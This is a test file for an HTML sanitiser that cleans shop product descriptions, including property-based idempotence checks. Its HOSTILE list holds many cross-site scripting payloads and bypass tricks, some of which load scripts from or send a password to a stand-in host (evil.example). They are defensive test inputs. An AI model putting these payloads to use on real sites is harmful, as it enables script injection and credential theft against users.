"""Descriptions: what may stay in them, what never does, and that cleaning twice is cleaning once."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.domain.content import forbidden_characters, normalised
from app.services import rich_text
from app.services.rich_text import plain, sanitised

ELEMENTS = {"p", "br", "strong", "b", "em", "i", "u", "sub", "sup", "ul", "ol", "li", "h3", "h4", "a", "code", "pre"} | {
    "blockquote",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
ATTRIBUTES = {"a": {"href", "rel"}, "th": {"colspan", "rowspan"}, "td": {"colspan", "rowspan"}}
# Any element may have them: a language, and a text to hover over.
GENERAL = {"lang", "title"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' style='position:fixed'>text</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' target=_top>x</a>",
    "<svg onload=alert(1)><path d='M0 0'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)>",
    "<b>&#x338; onclick=alert(1)//</b>",
    "<td background=javascript:alert(1) colspan=2>x",
    "<a href=https://x.example onmouseover=alert(1)//>x",
    "<p/onclick=alert(1)>x",
    '<p title="</p><script>alert(1)</script>">x',
]  # fmt: skip


class Inventory(HTMLParser):
    """What a browser finds in a text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def assert_harmless(text: str) -> None:
    found = Inventory(text)
    assert found.others == []
    for tag, attributes in found.elements:
        assert tag in ELEMENTS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | GENERAL
        if attributes.get("href"):
            assert re.match(r"(https?|mailto):|[^:]*$", attributes["href"] or "")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_could_run_or_reach_out_is_left(text: str) -> None:
    assert_harmless(sanitised(text))


PIECES = [
    "<p>", "</p>", "<b>", "</b>", "<pre>", "</pre>", "\n", "\r\n", "\t", " ", "<table>", "<tr>", "<td colspan=2>", "</table>",
    "<ul>", "<li>", "<a href='", "javascript:", "https://x.example/?a=1&b=2", "'>", '">', "</a>", "<script>", "</script>",
    "<style>", "</style>", "<svg>", "<math>", "<mtext>", "<!--", "-->", "<![CDATA[", "]]>", "<?",
    "<!", "</", "<", ">", "&", "=", "onclick=",
    "&lt;", "&#x338;", "&#8203;", "&#x202e;", "&#x301;", "&#13;", "&#0;", "e", "\u0338", "<textarea>", "<plaintext>", "<xmp>",
    "<template>", "<noscript>", "<select>", "<option>", "<form>", "<title>", "&nbsp;",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=14).map("".join))
@example("<a href='<a href='&#0;</style>&&#13;<xmp><template>'><title><svg>&#x338;<math>>")
@example("</style>\r\n<ol><a href=//x></pre><pre>e\t<option><pre><plaintext>\r\n\nonclick=")
@example("<b>&#x338; onclick=alert(1)//</b>")
@example("<i>e&#x301;&#8203;</i>")
def test_cleaning_twice_is_cleaning_once_whatever_was_sent(text: str) -> None:
    """So the same unclean text written twice is no second version, and an export that is imported changes nothing."""
    clean = sanitised(text)
    assert sanitised(clean) == clean
    if clean != text:
        assert_harmless(clean)
        assert normalised(clean) == clean
        assert forbidden_characters(clean, multiline=True) is None


@given(st.text().filter(lambda text: not re.search(r"<[A-Za-z/!?]", text)))
@example("5 < 6 & 7 > 3, \"quoted\" 'so' &amp; &lt;b&gt;\n\n  two lines  ")
@example("a <3 b <= c < d")
def test_a_plain_text_stays_as_it_is_byte_for_byte(text: str) -> None:
    assert sanitised(text) == text


def test_what_a_shop_says_of_its_parts_stays() -> None:
    text = (
        "<h3>Use</h3><p>For <strong>high</strong> <em>loads</em>: H<sub>2</sub>O, 10 mm<sup>2</sup>.<br>New.</p>"
        '<ul><li>one</li><li>two</li></ul><table><tbody><tr><th colspan="2">d</th></tr>'
        "<tr><td>1</td><td>2</td></tr></tbody></table>"
    )
    assert sanitised(text) == text


def test_a_link_tells_the_other_side_nothing_and_lends_it_no_weight() -> None:
    assert sanitised("<a href='https://maker.example/6205?x=1&y=2'>data</a>") == (
        '<a href="https://maker.example/6205?x=1&amp;y=2" rel="noopener noreferrer nofollow">data</a>'
    )


def test_markup_that_never_settles_is_left_out_with_its_words_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rich_text, "ROUNDS", 1)
    assert sanitised("<p onclick=x>One & two</p><script>no</script>") == "One &amp; two"


def test_the_plain_form_is_one_line_for_search_engines() -> None:
    assert plain("<h3>Use</h3><p>High &amp; low<br>loads</p><ul><li>1</li><li>2</li></ul>") == "Use High & low loads 1 2"
